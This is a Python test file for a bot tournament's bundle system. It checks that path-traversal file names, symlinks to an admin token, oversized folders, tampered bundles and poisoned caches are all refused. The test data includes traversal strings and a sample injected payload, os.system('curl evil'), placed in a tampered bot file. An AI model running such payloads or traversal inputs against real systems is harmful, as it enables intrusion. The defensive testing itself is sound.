"""Bot bundles and shipped results, the parts a Dask worker that shares no files with the server
relies on: each attack on a bundle (an escaping path, a symlink, a huge folder, a hash
mismatch, a poisoned cache) is refused, and a game played from a bundle sends its replay and
logs back instead of writing them under the server's paths."""

from __future__ import annotations

import gzip
import hashlib
import json
import shutil
import stat
from pathlib import Path
from typing import Any

import pytest

from tournaments.backends import run_shipped_job, stop_thread_worker
from tournaments.bot_specs import resolve_bot
from tournaments.bundles import MAX_BYTES, BundleCache, BundleError, from_wire, make_bundle
from tournaments.jobs import JobResult, MatchJob, SeatJob
from tournaments.shipping import ShippingError, deliver

from .conftest import REPO


def _bot(tmp_path: Path, name: str = "greedy") -> Path:
    folder = tmp_path / "server" / name
    shutil.copytree(REPO / "sample_bots" / "greedy", folder, ignore=shutil.ignore_patterns("__pycache__"))
    text = (folder / "bot.toml").read_text().replace('name = "greedy"', f'name = "{name}"')
    (folder / "bot.toml").write_text(text)
    return folder / "bot.toml"


def _forged(manifest: str, files: list[dict[str, Any]], blobs: dict[str, bytes]) -> tuple[str, dict[str, Any]]:
    """A wire bundle with a correct digest over whatever index it lists (what a forger can make)."""
    index = json.dumps({"format": 1, "manifest": manifest, "files": files}, sort_keys=True,
                       separators=(",", ":")).encode()
    return hashlib.sha256(index).hexdigest(), {"index": index, "blobs": blobs}


def test_a_bundle_installs_once_read_only_and_runs_from_the_cache(tmp_path: Path) -> None:
    bundle = make_bundle(_bot(tmp_path), "greedy")
    assert bundle.manifest == "bot.toml" and {f.path for f in bundle.files} >= {"bot.toml", "bot.py"}
    assert make_bundle(_bot(tmp_path / "again")).digest == bundle.digest  # content-addressed: the path is not in it
    cache = BundleCache(tmp_path / "cache")
    assert not cache.has(bundle.digest)
    cache.install(bundle.digest, bundle.to_wire())
    cache.install(bundle.digest, bundle.to_wire())  # a second install of the same digest keeps the first
    manifest = cache.manifest(bundle.digest)
    assert manifest == tmp_path / "cache" / bundle.digest / "files" / "bot.toml"
    loaded = resolve_bot(str(manifest))
    assert loaded.name == "greedy" and loaded.workdir == manifest.parent
    assert stat.S_IMODE((manifest.parent / "bot.py").stat().st_mode) == 0o444  # read-only, the folder too
    assert stat.S_IMODE(manifest.parent.stat().st_mode) == 0o555


def test_a_symlink_in_the_bot_folder_is_refused(tmp_path: Path) -> None:
    manifest = _bot(tmp_path)
    secret = tmp_path / "server" / "admin.token"
    secret.write_text("organizer's secret")
    (manifest.parent / "notes.txt").symlink_to(secret)
    with pytest.raises(BundleError, match="notes.txt is a symlink"):
        make_bundle(manifest, "greedy")


def test_a_huge_bot_folder_is_refused_before_it_is_read(tmp_path: Path) -> None:
    manifest = _bot(tmp_path)
    with open(manifest.parent / "weights.bin", "wb") as sparse:  # no disk used, no bytes read
        sparse.truncate(MAX_BYTES + 1)
    with pytest.raises(BundleError, match="more than .* MiB"):
        make_bundle(manifest, "greedy")
    digest, wire = _forged("bot.toml", [{"path": "bot.toml", "size": MAX_BYTES + 1, "sha256": "0" * 64, "x": False}],
                           {})
    with pytest.raises(BundleError, match="bytes"):
        from_wire(digest, wire)


@pytest.mark.parametrize("path", ["../escaped", "/etc/escaped", "a/../../escaped", "a\\..\\escaped", "./bot.toml",
                                  "a//b", "__pycache__/x.pyc", "x\0y"])
def test_a_path_that_leaves_the_bundle_is_refused_and_nothing_is_written(tmp_path: Path, path: str) -> None:
    data = b"name = 'x'\ncommand = ['x']\n"
    sha = hashlib.sha256(data).hexdigest()
    digest, wire = _forged("bot.toml", [{"path": "bot.toml", "size": len(data), "sha256": sha, "x": False},
                                        {"path": path, "size": len(data), "sha256": sha, "x": False}], {sha: data})
    cache = BundleCache(tmp_path / "deep" / "cache")
    with pytest.raises(BundleError, match="leaves the bot's folder|not a plain relative path"):
        cache.install(digest, wire)
    assert not (tmp_path / "escaped").exists() and not (tmp_path / "deep" / "escaped").exists()
    assert not cache.has(digest)


def test_a_hash_mismatch_is_refused(tmp_path: Path) -> None:
    bundle = make_bundle(_bot(tmp_path), "greedy")
    cache = BundleCache(tmp_path / "cache")
    tampered = bundle.to_wire()
    sha = next(f.sha256 for f in bundle.files if f.path == "bot.py")
    tampered["blobs"][sha] = b"import os; os.system('curl evil')\n".ljust(len(bundle.blobs[sha]), b"#")
    with pytest.raises(BundleError, match="bot.py does not match its hash"):
        cache.install(bundle.digest, tampered)
    other = make_bundle(_bot(tmp_path / "b", "other"), "other")
    with pytest.raises(BundleError, match="index does not match its digest"):
        cache.install(bundle.digest, other.to_wire())  # another bot's bundle under this digest
    with pytest.raises(BundleError, match="not a bundle digest"):
        cache.install("../" + bundle.digest[3:], bundle.to_wire())
    assert not (tmp_path / "cache").exists()  # checked before anything is written


@pytest.mark.parametrize("poison", ["changed", "added", "removed", "symlink"])
def test_a_poisoned_cache_is_refused_before_use_and_removed(tmp_path: Path, poison: str) -> None:
    bundle = make_bundle(_bot(tmp_path), "greedy")
    cache = BundleCache(tmp_path / "cache")
    cache.install(bundle.digest, bundle.to_wire())
    files = tmp_path / "cache" / bundle.digest / "files"
    files.chmod(0o755)
    if poison == "changed":  # what a bot of another game would do if it could write here
        (files / "bot.py").chmod(0o644)
        (files / "bot.py").write_text("import os\n")
    elif poison == "added":
        (files / "sitecustomize.py").write_text("import os\n")
    elif poison == "removed":
        (files / "bot.py").unlink()
    else:
        (files / "bot.py").unlink()
        (files / "bot.py").symlink_to(tmp_path / "elsewhere.py")
    with pytest.raises(BundleError, match="cache was changed|is missing"):
        cache.manifest(bundle.digest)
    assert not cache.has(bundle.digest)  # removed: the next game fetches a clean copy


def _job(tmp_path: Path, specs: list[str]) -> MatchJob:
    from referee.core.deadlines import TimeControl
    from referee.core.match import Policy
    from spite_engine import parse_rules

    server = tmp_path / "server"
    return MatchJob(match_id=7, rules=parse_rules("standard"), bots=tuple(SeatJob(s) for s in specs),
                    time_control=TimeControl(decision_ms=2000, bank_ms=10000, connect_ms=20000), games=1, seed=5,
                    bot_seed=9, policy=Policy.FORFEIT, replay_dir=str(server / "replays"),
                    log_dir=str(server / "logs" / "7"), hide=(str(server / "arena.db"),))


def test_a_shipped_game_asks_for_its_bundles_then_sends_its_files_back(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    first, second = _bot(tmp_path, "greedy"), _bot(tmp_path, "rival")
    bundles = [make_bundle(first, "greedy"), make_bundle(second, "rival")]
    job = _job(tmp_path, [str(first), str(second)])
    worker = tmp_path / "worker"
    monkeypatch.setenv("SPITE_BUNDLE_CACHE", str(worker / "cache"))
    monkeypatch.setenv("TMPDIR", str(worker / "tmp"))
    (worker / "tmp").mkdir(parents=True)
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", None)
    digests = [b.digest for b in bundles]
    try:
        _play_shipped(tmp_path, job, bundles, digests, worker)
    finally:
        stop_thread_worker()
    assert list((worker / "tmp").iterdir()) == []


def _play_shipped(tmp_path: Path, job: MatchJob, bundles: list[Any], digests: list[str], worker: Path) -> None:
    asked = run_shipped_job(job.to_dict(), digests, {})
    assert asked["missing"] == digests
    answer = run_shipped_job(job.to_dict(), digests, {b.digest: b.to_wire() for b in bundles})
    assert answer.get("ok"), answer.get("error")
    assert not (tmp_path / "server" / "replays").exists() and not (tmp_path / "server" / "logs").exists()
    assert list((worker / "tmp").glob("spite-dask-*/games/*")) == []  # the game's private folder is gone
    names = sorted(answer["files"]["logs"])
    assert len(names) == 2 and all(n.endswith((".log",)) for n in names)
    result = JobResult.from_dict(deliver(answer, job.replay_dir, job.log_dir))
    assert result.ok and result.summary is not None
    replay = Path(str(result.summary.games[0].replay))
    assert replay.parent == tmp_path / "server" / "replays"
    with gzip.open(replay, "rt") as lines:
        assert json.loads(lines.readline())["format"] == "spite-replay"
    assert sorted(p.name for p in (tmp_path / "server" / "logs" / "7").iterdir()) == names
    again = run_shipped_job(job.to_dict(), digests, {})  # fetched once: cached for the next game
    assert again.get("ok") and "missing" not in again

    poisoned = worker / "cache" / digests[1] / "files"
    poisoned.chmod(0o755)
    (poisoned / "bot.py").chmod(0o644)
    (poisoned / "bot.py").write_text("print('poisoned')\n")
    refused = JobResult.from_dict(run_shipped_job(job.to_dict(), digests, {}))
    assert not refused.ok and refused.platform_fault and "refused the game" in refused.incident
    assert "bot.py differs from the bundle" in refused.error
    assert run_shipped_job(job.to_dict(), digests, {})["missing"] == [digests[1]]  # a clean copy is fetched


@pytest.mark.parametrize("name", ["../escaped.log", "/tmp/x.log", ".hidden", "a/b.log", ""])
def test_a_result_cannot_write_outside_the_servers_folders(tmp_path: Path, name: str) -> None:
    answer = {"match_id": 1, "ok": False, "files": {"logs": {name: b"x"}, "replays": {}}}
    with pytest.raises(ShippingError):
        deliver(answer, str(tmp_path / "replays"), str(tmp_path / "logs"))
    assert list(tmp_path.iterdir()) == []
    too_big = {"match_id": 1, "ok": False, "files": {"logs": {"1-seat0-x.log": b"x" * (2 * 1024 * 1024)}}}
    with pytest.raises(ShippingError):
        deliver(too_big, None, str(tmp_path / "logs"))
